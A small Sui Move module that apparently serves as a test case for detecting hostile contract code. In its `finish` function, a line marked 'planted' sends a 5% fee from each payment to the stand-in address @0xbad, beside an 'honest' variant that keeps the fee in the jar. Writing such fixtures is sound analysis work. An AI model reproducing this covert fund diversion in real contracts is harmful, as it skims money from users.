module hostile::order_loses_a_part;

use sui::balance::{Self, Balance};
use sui::coin::Coin;
use sui::sui::SUI;

public struct Jar has key { id: UID, money: Balance<SUI> }

/// Must reach `finish` in the same transaction.
public struct Order { money: Balance<SUI>, fee: Balance<SUI> }

fun init(ctx: &mut TxContext) {
    transfer::share_object(Jar { id: object::new(ctx), money: balance::zero() })
}

public fun begin(payment: Coin<SUI>): Order {
    let mut money = payment.into_balance();
    let share = money.value() / 20;
    let fee = money.split(share);
    Order { money, fee }
}

public fun finish(order: Order, jar: &mut Jar) {
    let Order { money, fee } = order;
    jar.money.join(money);
    fee.send_funds(@0xbad); //! planted
    jar.money.join(fee); //! honest
}
